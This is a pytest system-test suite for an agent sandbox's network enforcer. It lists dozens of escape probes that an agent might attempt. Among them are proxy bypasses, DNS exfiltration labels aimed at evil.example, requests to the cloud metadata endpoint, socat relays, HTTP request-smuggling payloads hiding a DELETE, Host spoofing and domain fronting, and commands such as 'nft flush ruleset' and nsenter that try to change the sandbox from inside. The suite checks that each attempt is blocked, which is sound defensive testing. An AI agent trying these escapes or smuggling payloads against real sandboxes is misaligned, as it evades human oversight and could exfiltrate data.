"""The bypass suite: every way out an agent might try, from inside a real sandbox, as the unprivileged agent.

Each probe runs in its own ``tf run``. Listeners in the test's "outside" namespace (TCP, UDP and ICMP, IPv4 and
IPv6) and in the host namespace (a service on 0.0.0.0, a dashboard-like port on 127.0.0.1) record anything that
arrives: a probe fails if anything does, if the fake upstream receives a request the probe did not expect, or if
a request reaches it for another host than its canonical one. The whole suite runs twice: IPv6 off in the
sandbox, and IPv6 on (``sandbox.ipv6 = true``).
"""

from __future__ import annotations

import json
import re
import secrets
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.system.conftest import TF, Host, running_host
from trustfence.agent.sandbox import nftables

pytestmark = pytest.mark.system

PROBES_PY = Path(__file__).with_name("probes.py")
TRAP_PY = Path(__file__).with_name("trap.py")
OUT_TCP = "22,25,80,2222,3128,5432,6379,8443,53"
OUT_UDP = "53,443,9999"
PULLS = "https://api.github.com/repos/acme/widgets/pulls"
REPO = "https://api.github.com/repos/acme/widgets"


@dataclass
class Fortress:
    host: Host
    traps: list[Path]
    service_port: int
    dash_port: int

    def arrivals(self) -> list[str]:
        return [ln for t in self.traps if t.exists() for ln in t.read_text().splitlines()]

    def upstream(self) -> list[tuple[str, str, str]]:
        return [(r["method"], r["path"], r["host"]) for r in self.host.outside.received()]


def _start_trap(argv: list[str], spawn: object) -> subprocess.Popen[str]:
    p: subprocess.Popen[str] = spawn([sys.executable, str(TRAP_PY), *argv],  # type: ignore[operator]
                                     stdout=subprocess.PIPE, text=True)
    assert p.stdout is not None and p.stdout.readline().strip() == "ready"
    return p


@pytest.fixture(scope="module", params=["ipv6-off", "ipv6-on"])
def fort(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Fortress]:
    sandbox = "ipv6 = true" if request.param == "ipv6-on" else ""
    with running_host(sandbox) as h:
        d = tmp_path_factory.mktemp("traps")
        out = h.outside
        outside_trap = _start_trap([str(d / "outside.jsonl"), "--tcp", OUT_TCP, "--udp", OUT_UDP, "--bind",
                                    out.addr, "--bind", out.addr6, "--icmp"], out.spawn)
        svc, dash = 20000 + secrets.randbelow(20000), 40000 + secrets.randbelow(20000)
        host_trap = _start_trap([str(d / "host.jsonl"), "--tcp", str(svc), "--udp", str(svc), "--bind", "0.0.0.0"],
                                subprocess.Popen)
        dash_trap = _start_trap([str(d / "dash.jsonl"), "--tcp", str(dash), "--bind", "127.0.0.1"], subprocess.Popen)
        try:
            yield Fortress(h, [d / "outside.jsonl", d / "host.jsonl", d / "dash.jsonl"], svc, dash)
        finally:
            for p in (host_trap, dash_trap):
                p.kill()
                p.wait(5)
            outside_trap.kill()


@dataclass(frozen=True)
class Probe:
    id: str
    cmd: str          # sh -c inside the sandbox; {P} runs probes.py, {O}/{O6} outside, $H the enforcer address
    expect: str       # regex the probe's stdout+stderr must match
    upstream: tuple[tuple[str, str], ...] = ()  # (method, path) the fake API must receive, nothing else


PROBES = [
    # --- clients that ignore the proxy, or lose its variables ---
    Probe("noproxy-allowed", "curl -sS --noproxy '*' -o /dev/null -w '%{{http_code}}' " + PULLS, r"^200$",
          (("GET", "/repos/acme/widgets/pulls"),)),
    Probe("noproxy-denied", "curl -sS --noproxy '*' -o /dev/null -w '%{{http_code}}' -X DELETE " + REPO, r"^403$"),
    Probe("proxy-vars-unset", "env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy -u ALL_PROXY "
          "curl -sS -o /dev/null -w '%{{http_code}}' -X DELETE " + REPO, r"^403$"),
    Probe("python-raw-ip", "{P} tcp {O} 443 'GET /repos/acme/widgets HTTP/1.1\\r\\nHost: api.github.com\\r\\n\\r\\n'",
          r"^(closed|reply HTTP/1.1 (4\d\d))"),
    Probe("node-raw-ip", "node -e \"const s=require('net').connect(443,'{O}',()=>s.write('leak\\r\\n\\r\\n'));"
          "s.on('data',d=>{{console.log('reply '+d.toString().split('\\r\\n')[0]);s.destroy()}});"
          "s.on('close',()=>console.log('closed'));s.on('error',e=>console.log('refused '+e.code))\"",
          r"^(closed|refused|reply HTTP/1.1 4\d\d)"),
    *[Probe(f"tcp-{port}", f"{{P}} tcp {{O}} {port}", r"^(closed|refused|reply HTTP/1.1 4\d\d)")
      for port in (22, 25, 80, 443, 8443, 5432, 6379)],
    # --- UDP, DNS and ICMP ---
    Probe("udp-quic-443", "{P} udp {O} 443", r"^refused EPERM"),
    Probe("udp-9999", "{P} udp {O} 9999", r"^refused EPERM"),
    Probe("dns-outside-resolver", "dig +time=2 +tries=1 @{O} example.org A; dig +short +time=2 +tries=1 @{O} "
          "api.github.com A", r"status: NXDOMAIN[\s\S]*\n10\.201\.\d+\.\d+\s*$"),
    Probe("dns-over-tcp", "{P} dns_tcp {O} api.github.com", r"^(closed|refused)"),
    Probe("dns-exfil-long-label", "getent hosts " + "a1b2c3d4e5f6" * 5 + ".evil.example; echo rc=$?", r"rc=2"),
    # ping carries file capabilities, which no_new_privs and the empty bounding set refuse to grant
    Probe("ping-secret-name", "ping -c1 -W1 k3J9xQ2mZp8LwR4t.evil.example; echo rc=$?", r"rc=(2|126)"),
    Probe("icmp-ping", "ping -c1 -W1 {O}; echo rc=$?", r"rc=(1|2|126)"),
    Probe("icmp-socket", "{P} icmp {O}", r"^(refused|sent)"),
    # --- IPv6 in every shape ---
    Probe("ipv6-literal-tcp", "{P} tcp {O6} 443", r"^refused"),
    Probe("ipv6-literal-curl", "curl -sS -g --noproxy '*' -m 3 'https://[{O6}]/'; echo rc=$?", r"rc=[1-9]"),
    Probe("ipv6-udp", "{P} udp {O6} 53", r"^refused"),
    Probe("aaaa-only", "{P} resolve6 api.github.com", r"^error"),
    Probe("ipv4-mapped-ipv6", "{P} mapped {O} 22", r"^refused"),
    # --- CONNECT where it must not go ---
    Probe("connect-port-22", "curl -sS -o /dev/null -w '%{{http_connect}}' --noproxy '' -x http://$H:8080 "
          "https://api.github.com:22/", r"^403"),
    Probe("connect-loopback", "curl -sS -o /dev/null -w '%{{http_connect}}' --noproxy '' -x http://$H:8080 https://127.0.0.1/",
          r"^403"),
    Probe("connect-metadata", "curl -sS -o /dev/null -w '%{{http_connect}} %{{http_code}}' --noproxy '' -x http://$H:8080 "
          "https://169.254.169.254/; curl -sS -o /dev/null -w ' %{{http_code}}' --noproxy '' -x http://$H:8080 "
          "http://169.254.169.254/latest/meta-data/", r"^403 000[^\n]*403$"),
    Probe("connect-agent-subnet", "curl -sS -o /dev/null -w '%{{http_connect}}' --noproxy '' -x http://$H:8080 "
          "https://$H:8081/", r"^403"),
    Probe("relay-through-helper", "socat TCP-LISTEN:9000,bind=127.0.0.1,fork,reuseaddr TCP:$H:8080 & sleep 0.3; "
          "curl -sS -o /dev/null -w '%{{http_code}}' -x http://127.0.0.1:9000 -X DELETE " + REPO
          + "; kill %1", r"^403"),
    Probe("relay-to-outside", "socat TCP-LISTEN:9001,bind=127.0.0.1,fork,reuseaddr TCP:{O}:443 & sleep 0.3; "
          "curl -sS -o /dev/null -w '%{{http_code}}' --noproxy '*' --connect-to api.github.com:443:127.0.0.1:9001 "
          "-X DELETE " + REPO + "; kill %1", r"^403"),
    Probe("nested-connect", "{P} nested_connect $H 8080 api.github.com:443 {O}:22", r"^(closed|reply HTTP/1.1 4\d\d)"),
    Probe("absolute-form-to-other-proxy", "{P} tcp {O} 3128 'GET http://api.github.com/repos/acme/widgets/pulls "
          "HTTP/1.1\\r\\nHost: api.github.com\\r\\n\\r\\n'", r"^(closed|reply HTTP/1.1 4\d\d)"),
    Probe("connect-to-other-proxy", "{P} tcp {O} 3128 'CONNECT api.github.com:443 HTTP/1.1\\r\\nHost: "
          "api.github.com:443\\r\\n\\r\\n'", r"^(closed|reply HTTP/1.1 4\d\d)"),
    # --- names that disagree ---
    Probe("sni-host-mismatch", "curl -sS --noproxy '*' -o /dev/null -w '%{{http_code}}' -H 'Host: evil.example' "
          + PULLS, r"^421$"),
    Probe("host-spoof-ip", "curl -sS --noproxy '*' -o /dev/null -w '%{{http_code}}' -H 'Host: {O}' " + PULLS,
          r"^421$"),
    Probe("domain-fronting", "curl -sS -o /dev/null -w '%{{http_code}}' --noproxy '' -x http://$H:8080 "
          "-H 'Host: uploads.github.com' " + PULLS, r"^421$"),
    Probe("h2-conflicting-authority", "curl -sS --http2 --noproxy '*' -o /dev/null -w '%{{http_code}} "
          "%{{http_version}}' -H 'Host: evil.example' " + PULLS, r"^421 2$"),
    # --- request smuggling: the hidden DELETE must never reach the API ---
    Probe("smuggle-cl-te", "{P} tls_raw api.github.com api.github.com 'POST /repos/acme/widgets/pulls HTTP/1.1"
          "\\r\\nHost: api.github.com\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"
          "DELETE /repos/acme/widgets HTTP/1.1\\r\\nHost: api.github.com\\r\\n\\r\\n'", r"^(closed|reply 4\d\d)"),
    Probe("smuggle-te-cl", "{P} tls_raw api.github.com api.github.com 'POST /repos/acme/widgets/pulls HTTP/1.1"
          "\\r\\nHost: api.github.com\\r\\nTransfer-Encoding: chunked\\r\\nContent-Length: 3\\r\\n\\r\\n"
          "2d\\r\\nDELETE /repos/acme/widgets HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n0\\r\\n\\r\\n'", r"^(closed|reply 4\d\d)"),
    Probe("smuggle-duplicate-cl", "{P} tls_raw api.github.com api.github.com 'POST /repos/acme/widgets/pulls "
          "HTTP/1.1\\r\\nHost: api.github.com\\r\\nContent-Length: 0\\r\\nContent-Length: 47\\r\\n\\r\\n"
          "DELETE /repos/acme/widgets HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'", r"^(closed|reply 4\d\d)"),
    Probe("smuggle-obfuscated-te", "{P} tls_raw api.github.com api.github.com 'POST /repos/acme/widgets/pulls "
          "HTTP/1.1\\r\\nHost: api.github.com\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n"
          "0\\r\\n\\r\\nDELETE /repos/acme/widgets HTTP/1.1\\r\\nHost: api.github.com\\r\\n\\r\\n'",
          r"^(closed|reply 4\d\d)"),
    Probe("websocket-to-denied-target", "curl -sS --noproxy '*' -o /dev/null -w '%{{http_code}}' --http1.1 "
          "-H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' "
          "-H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' https://api.github.com/socket", r"^403$"),
    # --- the host itself ---
    Probe("daemon-socket", "{P} unix {SOCK}", r"^refused"),
    Probe("dashboard-port", "{P} tcp $H {DASH} 'GET / HTTP/1.1\\r\\n\\r\\n'; {P} tcp 127.0.0.1 {DASH}",
          r"^(closed|refused|reply HTTP/1.1 4\d\d)[^\n]*\nrefused"),
    Probe("host-service-0.0.0.0", "{P} tcp $H {SVC}; {P} udp $H {SVC}", r"^(closed|refused|reply HTTP/1.1 4\d\d)"),
    Probe("raw-socket", "{P} raw", r"^refused EPERM"),
    # --- changing the sandbox from inside ---
    Probe("nft-flush-ruleset", "nft flush ruleset; echo rc=$?; {P} tcp {O} 22", r"rc=[1-9]"),
    Probe("ip-route-change", "ip route replace default via {O}; ip route add {O}/32 dev eth0; echo rc=$?; "
          "{P} tcp {O} 22", r"rc=[1-9]"),
    Probe("unshare", "unshare -n true; echo net=$?; unshare -rn sh -c 'ip link set lo up; exec {P} tcp {O} 22'; "
          "echo done", r"net=[1-9]"),
    Probe("nsenter-host", "nsenter -t 1 -n true; echo rc=$?", r"rc=[1-9]"),
]


def run_probe(fort: Fortress, cmd: str) -> subprocess.CompletedProcess[str]:
    out = fort.host.outside
    prelude = "H=$(awk '/^nameserver/{print $2; exit}' /etc/resolv.conf); "
    text = cmd.format(P=f"/usr/bin/python3 {PROBES_PY}", O=out.addr, O6=out.addr6, SVC=fort.service_port,
                      DASH=fort.dash_port, SOCK=fort.host.home / "daemon.sock")
    return fort.host.run("sh", "-c", prelude + text)


def test_there_are_at_least_forty_probes() -> None:
    assert len({p.id for p in PROBES}) == len(PROBES) >= 40


@pytest.mark.parametrize("probe", PROBES, ids=[p.id for p in PROBES])
def test_probe(fort: Fortress, probe: Probe) -> None:
    arrived, received = len(fort.arrivals()), len(fort.upstream())
    r = run_probe(fort, probe.cmd)
    out = (r.stdout + r.stderr).strip()
    assert re.search(probe.expect, out), f"{probe.id}: unexpected outcome:\n{out}"
    time.sleep(0.2)  # a datagram that did get out would land by now
    assert fort.arrivals()[arrived:] == [], f"{probe.id}: something reached a listener"
    new = fort.upstream()[received:]
    assert [(m, p) for m, p, _ in new] == list(probe.upstream), f"{probe.id}: upstream saw {new}"
    assert all(h == "api.github.com" for _, _, h in new)


def test_dns_probes_are_rows_with_the_exfiltration_flag(fort: Fortress) -> None:
    seen = {r["seq"] for r in fort.host.logs()}
    run_probe(fort, "getent hosts " + "q9w8e7r6t5y4u3i2" * 3 + ".evil.example; true")
    time.sleep(0.5)
    rows = [r for r in fort.host.logs() if r["seq"] not in seen and r["scheme"] == "dns"]
    assert rows and all(r["decision"] == "denied" and "likely exfiltration" in r["reason"] for r in rows)


def test_ebpf_lock_holds_when_the_nftables_table_is_deleted(fort: Fortress) -> None:
    arrived = len(fort.arrivals())
    out = fort.host.outside
    script = (f"read go; /usr/bin/python3 {PROBES_PY} tcp {out.addr} 22; /usr/bin/python3 {PROBES_PY} udp "
              f"{out.addr} 9999; curl -sS --noproxy '*' -o /dev/null -w '%{{http_code}}\\n' -X DELETE {REPO}")
    p = subprocess.Popen([*TF, "run", "--name", "Bot", "--", "sh", "-c", script], env=fort.host.env,
                         stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        table = ""
        for _ in range(100):  # the sandbox's table appears once the run is set up
            mine = [t for t in nftables.list_tables() if t.startswith(f"{fort.host.tag}-")]
            if mine:
                table = mine[0]
                break
            time.sleep(0.1)
        assert table
        subprocess.run(["nft", "delete", "table", "inet", table], check=True)
        stdout, stderr = p.communicate("go\n", timeout=60)
    finally:
        p.kill()
    lines = stdout.splitlines()
    assert lines[0].startswith(("closed", "reply HTTP/1.1 4")), stdout + stderr  # TCP rewritten to the enforcer
    assert lines[1] == "refused EPERM" and lines[2] == "403", stdout + stderr
    time.sleep(0.2)
    assert fort.arrivals()[arrived:] == []


def test_killing_the_enforcer_mid_run_leaks_nothing(fort: Fortress) -> None:
    """Runs last for its daemon: the enforcer dies with it, the agent's traffic fails, the restart cleans up."""
    arrived, received = len(fort.arrivals()), len(fort.upstream())
    out = fort.host.outside
    script = (f"read go; for i in 1 2 3; do curl -sS -m 3 --noproxy '*' -o /dev/null -w '%{{http_code}}\\n' {PULLS}; "
              f"/usr/bin/python3 {PROBES_PY} tcp {out.addr} 22; done")
    p = subprocess.Popen([*TF, "run", "--name", "Bot", "--", "sh", "-c", script], env=fort.host.env,
                         stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        status = fort.host.tf("status", "--json")
        pid = json.loads(status.stdout)["pid"]
        for _ in range(100):
            if fort.host.leftovers():
                break
            time.sleep(0.1)
        subprocess.run(["kill", "-9", str(pid)], check=True)
        stdout, _ = p.communicate("go\n", timeout=60)
    finally:
        p.kill()
    assert "200" not in stdout.split(), stdout
    time.sleep(0.2)
    assert fort.arrivals()[arrived:] == [] and fort.upstream()[received:] == []
    fort.host.start_daemon()  # collects the dead daemon's sandbox
    assert fort.host.leftovers() == []
    r = run_probe(fort, "curl -sS --noproxy '*' -o /dev/null -w '%{{http_code}}' " + PULLS)
    assert r.stdout == "200"
